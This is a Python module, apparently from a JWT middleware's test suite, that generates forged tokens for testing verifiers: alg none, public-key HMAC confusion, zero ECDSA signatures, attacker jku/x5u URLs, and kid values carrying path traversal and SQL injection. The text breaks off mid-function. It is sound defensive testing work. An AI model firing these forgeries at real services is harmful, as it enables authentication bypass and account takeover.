"""A battery of forged tokens: every known way to make a JWT verifier accept what it must not.

Give `forge()` one valid compact JWT (and, if you have them, the verifier's public key or JWKS) and it returns
a list of `Forgery` objects, each a token that a correct verifier answers with 400 or 401, never 2xx and never
5xx. The battery covers `alg: none` in every casing, algorithm confusion (a public key used as an HMAC secret,
CVE-2022-29217 / CVE-2024-33663), psychic ECDSA signatures (CVE-2022-21449), embedded and remote attacker keys
(`jwk`, CVE-2018-0114; `jku`, `x5u`, `x5c`), `kid` injection, weak HMAC secrets, tampered claims under the
original signature, `crit` and RFC 7797 `b64`, JWE-shaped and nested tokens, duplicate JSON members,
non-canonical base64, malformed compact serialization, wrongly typed claims, non-UTF-8 JSON and oversized or
deeply nested headers.

    >>> for forgery in forge(token, public_key=public_pem):
    ...     assert client.get("/", headers={"Authorization": f"Bearer {forgery.token}"}).status_code in (400, 401)

The test suite fires the battery at the middleware in-process; a later CLI probe fires the same list at a live
URL. For a probe, a 5xx answer is a finding too: it means a hostile token reached code that crashed on it.

Most forgeries keep the original signature, which no longer matches, so they prove little about the checks
behind the signature. When the legitimate signing key is known (`signing_key=`, in tests), the variants that
are invalid on their own merits (a wrong `aud`, a string `exp`, UTF-16 JSON, an unknown `crit` extension...)
are also re-signed with it, named `...-resigned`, so a verifier has to reject them for the right reason.

Everything is deterministic: the attacker's keys are derived from fixed seeds, so the same input token yields
the same battery on every run, and reports can be compared. Some tokens are deliberately malformed (inner
whitespace, a newline) and cannot travel in a real HTTP header; an in-process ASGI client can still send them.
"""

from __future__ import annotations

import base64
import datetime
import functools
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import jwt
from cryptography import x509
from cryptography.exceptions import UnsupportedAlgorithm
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.x509.oid import NameOID

__all__ = ["Forgery", "forge", "replay"]

PublicKey = rsa.RSAPublicKey | ec.EllipticCurvePublicKey | ed25519.Ed25519PublicKey | ed448.Ed448PublicKey
PrivateKey = rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey | ed25519.Ed25519PrivateKey | ed448.Ed448PrivateKey
SigningKey = PrivateKey | bytes

_ATTACKER_URL = "https://attacker.invalid/.well-known/jwks.json"
_FAR_FUTURE = 32503680000  # 3000-01-01T00:00:00Z
_LONG_AGO = 1  # 1970-01-01T00:00:01Z


@dataclass(frozen=True, slots=True, repr=False)
class Forgery:
    """One forged token, and what it tries: `attack` is the class, `reference` the CVE or RFC section."""

    name: str
    attack: str
    reference: str
    token: str

    def __repr__(self) -> str:
        # Some tokens are 64 KiB; a test failure should name the forgery, not print it.
        return f"Forgery({self.name!r}, attack={self.attack!r}, {len(self.token)} chars)"


def forge(
    token: str,
    *,
    public_key: object | None = None,
    jwks: Mapping[str, Any] | None = None,
    signing_key: object | None = None,
    attacker_url: str = _ATTACKER_URL,
) -> list[Forgery]:
    """Forged variants of `token`, a valid compact JWS whose header is a JSON object.

    `public_key` (PEM bytes or str, or a `cryptography` public key) and `jwks` (a JWK Set dict) enable the
    algorithm-confusion forgeries. `signing_key` (the HMAC secret or private key that signed `token`) adds
    re-signed variants that must be rejected even though their signature is genuine. `attacker_url` is what
    the `jku` and `x5u` forgeries point at. Names are unique; no variant equals `token`.

    >>> forgeries = forge(token, public_key=public_pem)
    >>> next(f.name for f in forgeries if f.attack == "algorithm-confusion")
    'algorithm-confusion-key0-pem-HS256'
    """
    battery = _Battery(
        original=_Token.parse(token),
        public_keys=tuple(_public_keys(public_key, jwks)),
        jwks=jwks,
        signing_key=_signing_key(signing_key),
        attacker_url=attacker_url,
    )
    forgeries: list[Forgery] = []
    names: set[str] = set()
    tokens = {token}
    for generate in _GENERATORS:
        for forgery in generate(battery):
            if forgery.name in names:
                raise RuntimeError(f"duplicate forgery name {forgery.name!r}")  # pragma: no cover - a bug here
            names.add(forgery.name)
            if forgery.token not in tokens:  # e.g. re-padding a segment that needs no padding
                tokens.add(forgery.token)
                forgeries.append(forgery)
    return forgeries


def replay(expired_token: str, *, now: float | None = None) -> Forgery:
    """An expired but genuinely signed token, as a forgery: replaying it must fail (RFC 7519 section 4.1.4).

    >>> replay(token_minted_with_exp_in_the_past).attack
    'replay'
    """
    payload = _Token.parse(expired_token).payload
    exp = payload.get("exp") if payload is not None else None
    if not isinstance(exp, (int, float)) or isinstance(exp, bool) or exp > (time.time() if now is None else now):
        raise ValueError("replay() needs a token whose numeric exp claim has passed")
    return Forgery("replay-expired", "replay", "RFC 7519 section 4.1.4", expired_token)


# --- The token under attack, and the helpers every generator shares ---------------------------------------


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _unb64(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _json(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def _with_raw_member(obj: Mapping[str, Any], name: str, raw: str, *, first: bool = False) -> bytes:
    """`obj` as JSON with member `name` set to the literal JSON text `raw` (which may be no JSON at all)."""
    rest = _json({k: v for k, v in obj.items() if k != name})[1:-1].decode()
    member = f"{json.dumps(name)}:{raw}"
    members = [member, rest] if first else [rest, member]
    return ("{" + ",".join(m for m in members if m) + "}").encode()


@dataclass(frozen=True, slots=True)
class _Token:
    text: str
    header_b64: str
    payload_b64: str
    signature_b64: str
    header: dict[str, Any]
    payload: dict[str, Any] | None  # None when the payload is not a JSON object (a raw JWS)
    payload_bytes: bytes

    @classmethod
    def parse(cls, token: str) -> _Token:
        segments = token.split(".")
        if len(segments) != 3:
            raise ValueError("token must be a compact JWS: three base64url segments separated by dots")
        header_b64, payload_b64, signature_b64 = segments
        try:
            header = json.loads(_unb64(header_b64))
            payload_bytes = _unb64(payload_b64)
        except ValueError as exc:
            raise ValueError("token must be a compact JWS with a base64url JSON header") from exc
        if not isinstance(header, dict) or not isinstance(header.get("alg"), str):
            raise ValueError("token's header must be a JSON object with a string alg")
        try:
            payload = json.loads(payload_bytes)
        except ValueError:
            payload = None
        return cls(
            token,
            header_b64,
            payload_b64,
            signature_b64,
            header,
            payload if isinstance(payload, dict) else None,
            payload_bytes,
        )

    @property
    def alg(self) -> str:
        return str(self.header["alg"])

    @property
    def signing_input(self) -> str:
        return f"{self.header_b64}.{self.payload_b64}"

    def header_with(self, **members: object) -> dict[str, Any]:
        """The original header with `members` set; a member set to `_DROP` is removed."""
        header = {**self.header, **members}
        return {k: v for k, v in header.items() if v is not _DROP}


_DROP = object()


@dataclass(frozen=True, slots=True)
class _Battery:
    original: _Token
    public_keys: tuple[tuple[str | None, PublicKey, bytes | None], ...]  # (kid, key, the JWK as published)
    jwks: Mapping[str, Any] | None
    signing_key: SigningKey | None
    attacker_url: str

    def kept(
        self, name: str, attack: str, reference: str, header: bytes | Mapping[str, Any], payload: bytes
    ) -> Forgery:
        """A variant with new header and payload under the original, now mismatched, signature."""
        head = header if isinstance(header, bytes) else _json(header)
        return Forgery(name, attack, reference, f"{_b64(head)}.{_b64(payload)}.{self.original.signature_b64}")

    def both(
        self, name: str, attack: str, reference: str, header: bytes | Mapping[str, Any], payload: bytes
    ) -> Iterator[Forgery]:
        """The variant under the original signature and, when the real key is known, genuinely re-signed.

        Only for variants a verifier must reject whoever signed them.
        """
        yield self.kept(name, attack, reference, header, payload)
        if self.signing_key is not None:
            head = header if isinstance(header, bytes) else _json(header)
            signed = _signed(head, payload, self.original.alg, self.signing_key)
            yield Forgery(f"{name}-resigned", attack, reference, signed)

    @property
    def claims(self) -> dict[str, Any]:
        return self.original.payload or {}


def _signed(header: bytes | Mapping[str, Any], payload: bytes, alg: str, key: SigningKey) -> str:
    head = header if isinstance(header, bytes) else _json(header)
    signing_input = f"{_b64(head)}.{_b64(payload)}".encode()
    return f"{signing_input.decode()}.{_b64(_sign(alg, key, signing_input))}"


_HASHES: dict[str, Callable[[], hashes.HashAlgorithm]] = {
    "256": hashes.SHA256,
    "384": hashes.SHA384,
    "512": hashes.SHA512,
}


def _sign(alg: str, key: SigningKey, message: bytes) -> bytes:
    """A JWS signature (RFC 7518) of `message`; an HMAC `alg` with a non-bytes key, or the reverse, is a bug."""
    if isinstance(key, bytes):
        return hmac.digest(key, message, f"sha{alg[2:]}" if alg[2:] in _HASHES else "sha256")
    if isinstance(key, rsa.RSAPrivateKey):
        hash_ = _HASHES.get(alg[2:], hashes.SHA256)()
        if alg.startswith("PS"):
            return key.sign(message, padding.PSS(padding.MGF1(hash_), hash_.digest_size), hash_)
        return key.sign(message, padding.PKCS1v15(), hash_)
    if isinstance(key, ec.EllipticCurvePrivateKey):
        size = (key.curve.key_size + 7) // 8
        r, s = decode_dss_signature(key.sign(message, _ecdsa(_CURVE_HASH[key.curve.name]())))
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")
    return key.sign(message)


def _ecdsa(hash_: hashes.HashAlgorithm) -> ec.ECDSA:
    """RFC 6979 deterministic ECDSA where OpenSSL has it, so the battery is reproducible; random otherwise."""
    try:
        return ec.ECDSA(hash_, deterministic_signing=True)
    except (TypeError, UnsupportedAlgorithm):  # pragma: no cover - old cryptography or OpenSSL
        return ec.ECDSA(hash_)


_CURVE_HASH: dict[str, Callable[[], hashes.HashAlgorithm]] = {
    "secp256r1": hashes.SHA256,
    "secp384r1": hashes.SHA384,
    "secp521r1": hashes.SHA512,
    "secp256k1": hashes.SHA256,
}
_JWK_CURVES = {"secp256r1": "P-256", "secp384r1": "P-384", "secp521r1": "P-521", "secp256k1": "secp256k1"}


def _public_jwk(key: PublicKey | bytes) -> dict[str, str]:
    """The JWK (RFC 7517, 7518, 8037) of a public key or an HMAC secret."""
    if isinstance(key, bytes):
        return {"kty": "oct", "k": _b64(key)}
    if isinstance(key, rsa.RSAPublicKey):
        numbers = key.public_numbers()
        return {"kty": "RSA", "n": _b64(_int_bytes(numbers.n)), "e": _b64(_int_bytes(numbers.e))}
    if isinstance(key, ec.EllipticCurvePublicKey):
        size = (key.curve.key_size + 7) // 8
        point = key.public_numbers()
        return {
            "kty": "EC",
            "crv": _JWK_CURVES.get(key.curve.name, key.curve.name),
            "x": _b64(point.x.to_bytes(size, "big")),
            "y": _b64(point.y.to_bytes(size, "big")),
        }
    raw = key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    return {"kty": "OKP", "crv": "Ed25519" if isinstance(key, ed25519.Ed25519PublicKey) else "Ed448", "x": _b64(raw)}


def _int_bytes(value: int) -> bytes:
    return value.to_bytes(max(1, (value.bit_length() + 7) // 8), "big")


# --- The attacker's keys: derived from fixed seeds, so every run forges the same tokens ---------------------


def _seed(label: str, size: int) -> bytes:
    return hashlib.shake_256(f"jwt_middleware.attacks:{label}".encode()).digest(size)


_ATTACKER_SECRET = _seed("hmac", 64)

_SMALL_PRIMES = tuple(p for p in range(3, 2000, 2) if all(p % d for d in range(3, int(p**0.5) + 1, 2)))


def _is_probable_prime(n: int) -> bool:
    if any(n % p == 0 for p in _SMALL_PRIMES):
        return n in _SMALL_PRIMES
    d, s = n - 1, 0
    while d % 2 == 0:
        d, s = d // 2, s + 1
    for witness in _SMALL_PRIMES[:24]:  # enough Miller-Rabin rounds for random, not adversarial, candidates
        x = pow(witness, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def _seeded_prime(label: str, bits: int) -> int:
    counter = 0
    while True:
        candidate = int.from_bytes(_seed(f"{label}:{counter}", bits // 8), "big") | (3 << (bits - 2)) | 1
        if candidate % 65537 != 1 and _is_probable_prime(candidate):
            return candidate
        counter += 1


@functools.cache
def _attacker_rsa() -> rsa.RSAPrivateKey:
    """A 2048-bit RSA key from seeded primes: `cryptography` cannot generate one deterministically."""
    p, q = _seeded_prime("rsa-p", 1024), _seeded_prime("rsa-q", 1024)
    e = 65537
    d = pow(e, -1, (p - 1) * (q - 1))
    public = rsa.RSAPublicNumbers(e, p * q)
    return rsa.RSAPrivateNumbers(
        p, q, d, rsa.rsa_crt_dmp1(d, p), rsa.rsa_crt_dmq1(d, q), rsa.rsa_crt_iqmp(p, q), public
    ).private_key()


_EC_ALGS: dict[str, tuple[type[ec.EllipticCurve], int]] = {
    "ES256": (ec.SECP256R1, 32),
    "ES384": (ec.SECP384R1, 48),
    "ES512": (ec.SECP521R1, 66),
    "ES256K": (ec.SECP256K1, 32),
}
_HMAC_ALGS = ("HS256", "HS384", "HS512")
_ALL_ALGS = (*_HMAC_ALGS, "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", *_EC_ALGS, "EdDSA", "Ed25519", "Ed448")


@functools.cache
def _attacker_key(alg: str) -> SigningKey:
    """The attacker's key of the kind `alg` needs (an RSA key for anything unknown)."""
    if alg in _HMAC_ALGS:
        return _ATTACKER_SECRET
    if alg in _EC_ALGS:
        # 31 bytes stay below every curve's order, so the scalar is always valid.
        return ec.derive_private_key(int.from_bytes(_seed(f"ec:{alg}", 31), "big"), _EC_ALGS[alg][0]())
    if alg in ("EdDSA", "Ed25519"):
        return ed25519.Ed25519PrivateKey.from_private_bytes(_seed("ed25519", 32))
    if alg == "Ed448":
        return ed448.Ed448PrivateKey.from_private_bytes(_seed("ed448", 57))
    return _attacker_rsa()


def _attacker_algs(original_alg: str) -> tuple[str, ...]:
    """The algorithms an attacker signs with: the victim's own (if a known one), and RS256, the classic."""
    own = original_alg if original_alg in _ALL_ALGS else "RS256"
    return (own,) if own == "RS256" else (own, "RS256")


def _public_half(key: SigningKey) -> PublicKey | bytes:
    return key if isinstance(key, bytes) else key.public_key()


@functools.cache
def _attacker_certificate(alg: str) -> bytes:
    """A self-signed X.509 certificate (DER) for the attacker's `alg` key, with fixed dates and serial."""
    key = _attacker_key(alg)
    assert not isinstance(key, bytes)  # only asymmetric algorithms reach here
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker.invalid")])
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(0x0A77AC)
        .not_valid_before(datetime.datetime(2020, 1, 1, tzinfo=datetime.timezone.utc))
        .not_valid_after(datetime.datetime(2100, 1, 1, tzinfo=datetime.timezone.utc))
    )
    if isinstance(key, (ed25519.Ed25519PrivateKey, ed448.Ed448PrivateKey)):
        return builder.sign(key, None).public_bytes(serialization.Encoding.DER)
    if isinstance(key, ec.EllipticCurvePrivateKey):
        certificate = builder.sign(key, hashes.SHA256(), ecdsa_deterministic=True)
    else:
        certificate = builder.sign(key, hashes.SHA256())
    return certificate.public_bytes(serialization.Encoding.DER)


# --- Normalizing the caller's keys ---------------------------------------------------------------------------


def _public_keys(
    public_key: object | None, jwks: Mapping[str, Any] | None
) -> Iterator[tuple[str | None, PublicKey, bytes | None]]:
    if public_key is not None:
        yield None, _load_public_key(public_key), None
    if jwks is not None:
        for jwk in list(jwks.get("keys") or [])[:8]:  # enough to cover a rotation; bounds the battery's size
            if not isinstance(jwk, Mapping) or jwk.get("kty") == "oct":
                continue
            try:
                key = jwt.PyJWK(dict(jwk)).key
            except (jwt.PyJWTError, ValueError, TypeError, KeyError):
                continue  # a key this module cannot parse cannot be confused either
            if isinstance(key, PrivateKey):
                key = key.public_key()
            if isinstance(key, PublicKey):
                kid = jwk.get("kid")
                yield (kid if isinstance(kid, str) else None), key, json.dumps(dict(jwk)).encode()


def _load_public_key(material: object) -> PublicKey:
    if isinstance(material, PrivateKey):
        return material.public_key()
    if isinstance(material, PublicKey):
        return material
    if isinstance(material, str):
        material = material.encode()
    if isinstance(material, bytes):
        loaded = serialization.load_pem_public_key(material.strip())
        if isinstance(loaded, PublicKey):
            return loaded
    raise TypeError("public_key must be PEM bytes or str, or a cryptography RSA, EC or EdDSA public key")


def _signing_key(material: object | None) -> SigningKey | None:
    if material is None or isinstance(material, (PrivateKey, bytes)):
        return material
    if isinstance(material, str):
        return material.encode()
    raise TypeError("signing_key must be an HMAC secret (bytes or str) or a cryptography private key")


# --- The attacks, one generator per class ---------------------------------------------------------------


def _none_casings() -> Iterator[str]:
    for mask in range(16):
        yield "".join(c.upper() if mask >> i & 1 else c for i, c in enumerate("none"))


def _alg_none(b: _Battery) -> Iterator[Forgery]:
    """RFC 7518 section 3.6's unsecured JWS, which a verifier of signed tokens must never accept."""
    t = b.original
    for casing in _none_casings():
        head = _b64(_json(t.header_with(alg=casing)))
        tails = {
            "empty-sig": f".{t.payload_b64}.",
            "no-sig": f".{t.payload_b64}",
            "orig-sig": f".{t.payload_b64}.{t.signature_b64}",
        }
        for detail, tail in tails.items():
            yield Forgery(f"alg-none-{casing}-{detail}", "alg-none", "RFC 8725 section 2.1; CVE-2015-9235", head + tail)
    # `alg: none` with admin claims, the forgery an attacker actually sends.
    if t.payload is not None:
        admin = _json({**t.payload, "sub": "admin", "role": "admin"})
        yield Forgery(
            "alg-none-admin-claims",
            "alg-none",
            "RFC 8725 section 2.1",
            f"{_b64(_json(t.header_with(alg='none')))}.{_b64(admin)}.",
        )


def _confusion_secrets(key: PublicKey, published_jwk: bytes | None) -> Iterator[tuple[str, bytes]]:
    """Every byte form of a public key a careless verifier might use as an HMAC secret."""
    enc, fmt = serialization.Encoding, serialization.PublicFormat
    pem = key.public_bytes(enc.PEM, fmt.SubjectPublicKeyInfo)
    yield "pem", pem
    yield "pem-stripped", pem.strip()
    yield "der", key.public_bytes(enc.DER, fmt.SubjectPublicKeyInfo)
    jwk = _public_jwk(key)
    yield "jwk-json", _json(jwk)
    yield "jwk-json-spaced", json.dumps(jwk).encode()
    if published_jwk is not None:
        yield "jwk-json-published", published_jwk
    if isinstance(key, rsa.RSAPublicKey):
        yield "pkcs1-pem", key.public_bytes(enc.PEM, fmt.PKCS1)
        yield "modulus", _int_bytes(key.public_numbers().n)
    elif isinstance(key, ec.EllipticCurvePublicKey):
        yield "x962-point", key.public_bytes(enc.X962, fmt.UncompressedPoint)
    else:
        yield "raw", key.public_bytes(enc.Raw, fmt.Raw)
    try:
        openssh = key.public_bytes(enc.OpenSSH, fmt.OpenSSH)
    except ValueError:
        return  # curves and Ed448 keys OpenSSH has no format for
    yield "openssh", openssh


def _algorithm_confusion(b: _Battery) -> Iterator[Forgery]:
    """The public key's bytes as an HMAC secret: CVE-2022-29217 (PyJWT), CVE-2024-33663 (python-jose)."""
    reference = "RFC 8725 section 3.1; CVE-2022-29217; CVE-2024-33663"
    t = b.original
    for index, (kid, key, published) in enumerate(b.public_keys):
        header = t.header_with(kid=kid) if kid is not None else dict(t.header)
        label = f"key{index}"
        seen: set[bytes] = set()
        for form, secret in _confusion_secrets(key, published):
            if secret in seen:
                continue
            seen.add(secret)
            for alg in _HMAC_ALGS:
                token = _signed({**header, "alg": alg}, t.payload_bytes, alg, secret)
                yield Forgery(f"algorithm-confusion-{label}-{form}-{alg}", "algorithm-confusion", reference, token)
    if b.jwks is not None:
        document = json.dumps(dict(b.jwks)).encode()
        for alg in _HMAC_ALGS:
            token = _signed({**t.header, "alg": alg}, t.payload_bytes, alg, document)
            yield Forgery(f"algorithm-confusion-jwks-json-{alg}", "algorithm-confusion", reference, token)


def _psychic_signature(b: _Battery) -> Iterator[Forgery]:
    """ECDSA with r = s = 0, which Java 15-18 accepted for any message (CVE-2022-21449)."""
    t = b.original
    for alg, (_, size) in _EC_ALGS.items():
        header = _b64(_json(t.header_with(alg=alg)))
        zeros = {"raw-zeros": bytes(2 * size), "der-zeros": encode_dss_signature(0, 0)}
        for detail, signature in zeros.items():
            yield Forgery(
                f"psychic-signature-{alg}-{detail}",
                "psychic-signature",
                "CVE-2022-21449",
                f"{header}.{t.payload_b64}.{_b64(signature)}",
            )


def _signature_tampering(b: _Battery) -> Iterator[Forgery]:
    """The right header and payload with a signature that is not theirs (RFC 7515 section 5.2)."""
    reference = "RFC 7515 section 5.2"
    t = b.original
    signature = _unb64(t.signature_b64)
    flipped_first = bytes([signature[0] ^ 0x01]) + signature[1:] if signature else b"\x01"
    flipped_last = signature[:-1] + bytes([signature[-1] ^ 0x80]) if signature else b"\x80"
    variants: dict[str, str] = {
        "stripped": t.signing_input,
        "empty": t.signing_input + ".",
        "truncated-1": _b64(signature[:-1]),
        "truncated-half": _b64(signature[: len(signature) // 2]),
        "extended": _b64(signature + b"\x00"),
        "bit-flip-first": _b64(flipped_first),
        "bit-flip-last": _b64(flipped_last),
        "zeros": _b64(bytes(len(signature))),
        "ones": _b64(b"\xff" * len(signature)),
        "doubled": _b64(signature + signature),
    }
    # The signature of another token with the same algorithm: the attacker's own key over the attacker's claims.
    attacker = _signed(t.header, _json({"sub": "attacker"}), t.alg, _attacker_key(t.alg))
    variants["from-attacker-token"] = attacker.rsplit(".", 1)[1]
    # With the real key, a genuine signature over other claims: it must not verify these.
    if b.signing_key is not None:
        other = _signed(t.header, _json({**b.claims, "sub": "someone-else"}), t.alg, b.signing_key)
        variants["from-other-genuine-token"] = other.rsplit(".", 1)[1]
    if t.alg in _EC_ALGS and len(signature) == 2 * _EC_ALGS[t.alg][1]:
        size = _EC_ALGS[t.alg][1]
        r, s = signature[:size], signature[size:]
        # RFC 7518 section 3.4 fixes r || s at the curve's width: DER, or a wider or swapped pair, is invalid.
        variants["ecdsa-der"] = _b64(encode_dss_signature(int.from_bytes(r, "big"), int.from_bytes(s, "big")))
        variants["ecdsa-widened"] = _b64(b"\x00" + r + b"\x00" + s)
        variants["ecdsa-swapped"] = _b64(s + r)
    for detail, value in variants.items():
        token = value if detail in ("stripped", "empty") else f"{t.signing_input}.{value}"
        yield Forgery(f"signature-{detail}", "signature-tampering", reference, token)


def _claims_tampering(b: _Battery) -> Iterator[Forgery]:
    """Claims an attacker wants, under the original signature; the re-signed ones are wrong on their own."""
    if b.original.payload is None:
        return
    reference = "RFC 7515 section 5.2; RFC 7519 section 7.2"
    claims = b.claims
    aud = claims.get("aud")
    other_aud: object = ["https://attacker.invalid"] if isinstance(aud, list) else "https://attacker.invalid"
    signature_only: dict[str, dict[str, Any]] = {
        "role-admin": {**claims, "role": "admin", "roles": ["admin"], "admin": True},
        "scope-widened": {**claims, "scope": f"{claims.get('scope', '')} admin".strip()},
        "sub-changed": {**claims, "sub": "admin"},
        "exp-far-future": {**claims, "exp": _FAR_FUTURE},
        "exp-removed": {k: v for k, v in claims.items() if k != "exp"},
        "aud-appended": {**claims, "aud": [*(aud if isinstance(aud, list) else [aud]), "https://attacker.invalid"]},
        "same-claims-reencoded": claims,  # the same JSON with other whitespace: the signature covers bytes
    }
    invalid_anyway: dict[str, dict[str, Any]] = {
        "aud-changed": {**claims, "aud": other_aud},
        "iss-changed": {**claims, "iss": "https://attacker.invalid"},
        "exp-past": {**claims, "exp": _LONG_AGO},
        "nbf-future": {**claims, "nbf": _FAR_FUTURE},
    }
    header = b.original.header
    for detail, payload in signature_only.items():
        body = json.dumps(payload, indent=1).encode() if detail == "same-claims-reencoded" else _json(payload)
        yield b.kept(f"claims-{detail}", "claims-tampering", reference, header, body)
    for detail, payload in invalid_anyway.items():
        yield from b.both(f"claims-{detail}", "claims-tampering", reference, header, _json(payload))


def _header_tampering(b: _Battery) -> Iterator[Forgery]:
    """An `alg` that is missing, malformed or swapped for another, under the original signature."""
    reference = "RFC 7515 section 4.1.1; RFC 8725 section 3.1"
    t = b.original
    malformed: dict[str, object] = {"missing": _DROP, "empty": "", "null": None, "list": [t.alg], "unknown": "XS256"}
    malformed |= {"lowercase": t.alg.lower(), "padded": f" {t.alg} ", "object": {"name": t.alg}}
    for detail, alg in malformed.items():
        yield from b.both(
            f"header-alg-{detail}", "header-tampering", reference, t.header_with(alg=alg), t.payload_bytes
        )
    for alg in _ALL_ALGS:
        if alg != t.alg:
            yield b.kept(
                f"header-alg-swapped-{alg}", "header-tampering", reference, t.header_with(alg=alg), t.payload_bytes
            )
    if "kid" in t.header:
        yield b.kept("header-kid-removed", "header-tampering", reference, t.header_with(kid=_DROP), t.payload_bytes)
    yield b.kept("header-typ-changed", "header-tampering", reference, t.header_with(typ="at+jwt"), t.payload_bytes)


# (name, secret): the defaults of tutorials and frameworks, which cracking tools try first
_WEAK_SECRETS = (
    ("empty", ""),
    ("secret", "secret"),
    ("password", "password"),
    ("changeme", "changeme"),
    ("jwt-io-default", "your-256-bit-secret"),
    ("jwt", "jwt"),
    ("key", "key"),
    ("test", "test"),
)


def _weak_hmac_secret(b: _Battery) -> Iterator[Forgery]:
    """HMAC with a guessable secret, the first thing a cracking tool tries (RFC 8725 section 3.5)."""
    t = b.original
    alg = t.alg if t.alg in _HMAC_ALGS else "HS256"
    secrets = list(_WEAK_SECRETS)
    if isinstance(t.header.get("kid"), str):
        secrets.append(("kid", t.header["kid"]))
    for name, secret in secrets:
        token = _signed({**t.header, "alg": alg}, t.payload_bytes, alg, secret.encode())
        yield Forgery(f"weak-hmac-secret-{name}-{alg}", "weak-hmac-secret", "RFC 8725 section 3.5", token)


# (name, kid, the HMAC secret that kid resolves to on a vulnerable server, or None)
_KID_INJECTIONS: tuple[tuple[str, object, bytes | None], ...] = (
    ("path-traversal", "../../../../../../../dev/null", b""),
    ("absolute-path", "/dev/null", b""),
    ("sql", "' OR '1'='1", None),
    ("sql-union", "x' UNION SELECT 'attacker-secret' -- ", b"attacker-secret"),
    ("nosql", {"$ne": ""}, None),
    ("nul-byte", "key\x00.pem", None),
    ("long", "A" * 10240, None),
    ("empty", "", None),
    ("int", 0, None),
    ("null", None, None),
    ("bool", True, None),
    ("list", ["key"], None),
    ("object", {"kid": "key"}, None),
)


def _kid_injection(b: _Battery) -> Iterator[Forgery]:
    """A `kid` aimed at the key lookup: files, SQL, huge or non-string values (RFC 8725 section 3.10)."""
    reference = "RFC 8725 section 3.10"
    t = b.original
    for detail, kid, secret in _KID_INJECTIONS:
        header = t.header_with(kid=kid)
        if isinstance(kid, str):
            yield b.kept(f"kid-{detail}", "kid-injection", reference, header, t.payload_bytes)
        else:  # RFC 7515 section 4.1.4: a kid is a string, so a genuine signature does not save these
            yield from b.both(f"kid-{detail}", "kid-injection", reference, header, t.payload_bytes)
        if secret is not None:
            token = _signed({**header, "alg": "HS256"}, t.payload_bytes, "HS256", secret)
            yield Forgery(f"kid-{detail}-hs256-signed", "kid-injection", reference, token)


def _embedded_keys(b: _Battery) -> Iterator[Forgery]:
    """Tokens that bring their own key (`jwk`, `x5c`) or say where to fetch it (`jku`, `x5u`)."""
    t = b.original
    url = b.attacker_url
    cert_url = url.rsplit("/", 1)[0] + "/attacker.pem"
    for alg in _attacker_algs(t.alg):
        key = _attacker_key(alg)
        jwk = {**_public_jwk(_public_half(key)), "kid": "attacker", "alg": alg}
        claims = t.payload_bytes
        header = {k: v for k, v in t.header.items() if k != "kid"} | {"alg": alg}
        variants: dict[str, tuple[str, str, dict[str, Any]]] = {
            "jwk": ("embedded-jwk", "CVE-2018-0114", {**header, "jwk": jwk}),
            "jwk-original-kid": ("embedded-jwk", "CVE-2018-0114", {**t.header, "alg": alg, "jwk": jwk}),
            "jku": ("jku-injection", "RFC 8725 section 3.10", {**header, "kid": "attacker", "jku": url}),
            "jku-original-kid": ("jku-injection", "RFC 8725 section 3.10", {**t.header, "alg": alg, "jku": url}),
            "x5u": ("x5u-injection", "RFC 8725 section 3.10", {**header, "x5u": cert_url}),
        }
        if alg not in _HMAC_ALGS:
            der = _attacker_certificate(alg)
            x5c = [base64.b64encode(der).decode()]
            thumbprint = _b64(hashlib.sha256(der).digest())
            variants["x5c"] = ("embedded-x5c", "RFC 7515 section 4.1.6", {**header, "x5c": x5c})
            variants["x5c-x5t"] = (
                "embedded-x5c",
                "RFC 7515 section 4.1.6",
                {**header, "x5c": x5c, "x5t#S256": thumbprint},
            )
        for detail, (attack, reference, forged_header) in variants.items():
            yield Forgery(f"{detail}-{alg}", attack, reference, _signed(forged_header, claims, alg, key))
    if t.alg not in _HMAC_ALGS:  # a symmetric key in the header signs anything
        jwk = _public_jwk(_ATTACKER_SECRET)
        token = _signed({**t.header, "alg": "HS256", "jwk": jwk}, t.payload_bytes, "HS256", _ATTACKER_SECRET)
        yield Forgery("jwk-oct-HS256", "embedded-jwk", "CVE-2018-0114", token)


def _crit_and_b64(b: _Battery) -> Iterator[Forgery]:
    """Critical extensions a verifier does not understand must fail it (RFC 7515 section 4.1.11, RFC 7797)."""
    reference = "RFC 7515 section 4.1.11"
    t = b.original
    crit: dict[str, dict[str, Any]] = {
        "unknown": t.header_with(crit=["x-unknown"], **{"x-unknown": True}),
        "unknown-absent": t.header_with(crit=["x-unknown"]),
        "empty-list": t.header_with(crit=[]),
        "names-alg": t.header_with(crit=["alg"]),
        "not-a-list": t.header_with(crit="x-unknown", **{"x-unknown": True}),
        "non-string": t.header_with(crit=[1]),
    }
    for detail, header in crit.items():
        yield from b.both(f"crit-{detail}", "crit-extension", reference, header, t.payload_bytes)
    # RFC 7797: with b64 false the payload travels (and is signed) as is. A verifier that does not support it
    # must reject it; one that ignores `b64` would check the signature over the wrong bytes.
    reference = "RFC 7797 section 6"
    b64_headers = {"b64-false": t.header_with(b64=False, crit=["b64"]), "b64-false-no-crit": t.header_with(b64=False)}
    # RFC 7797 section 5.2: an unencoded payload in the compact form must not contain a dot.
    raw = t.payload_bytes.decode("ascii", "replace").replace(".", "%2E")
    for detail, header in b64_headers.items():
        head = _b64(_json(header))
        shapes = {"detached": "", "unencoded": raw, "encoded": t.payload_b64}
        for shape, payload in shapes.items():
            yield Forgery(f"{detail}-{shape}", "b64-false", reference, f"{head}.{payload}.{t.signature_b64}")
            if b.signing_key is not None:
